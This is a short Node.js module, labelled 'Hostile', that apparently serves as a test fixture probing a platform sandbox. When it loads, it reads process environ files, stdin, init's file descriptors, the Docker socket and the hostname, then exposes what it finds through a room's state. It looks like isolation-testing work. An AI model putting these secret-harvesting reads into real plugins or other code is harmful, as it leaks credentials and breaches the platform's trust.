// Hostile: hunts for the platform's secrets. The platform hands them to the runtime over stdin,
// which the runtime has read to the end before this module loads; they were never in the environment.
const fs = require('fs');

function read(file) {
  try {
    return fs.readFileSync(file, 'latin1');
  } catch (err) {
    return `!${err.code || err.message}`;
  }
}

const found = {
  env: Object.keys(process.env).filter((k) => k.startsWith('GSF_')),
  selfEnviron: read('/proc/self/environ'),
  initEnviron: read('/proc/1/environ'),
  parentEnviron: read(`/proc/${process.ppid}/environ`),
  cmdline: read('/proc/self/cmdline'),
  stdin: read('/dev/stdin'),
  initStdin: read('/proc/1/fd/0'),
  dockerSocket: read('/var/run/docker.sock'),
  hostname: read('/etc/hostname'),
};

module.exports = {
  onCreate(room) {
    room.state = { found };
  },
};
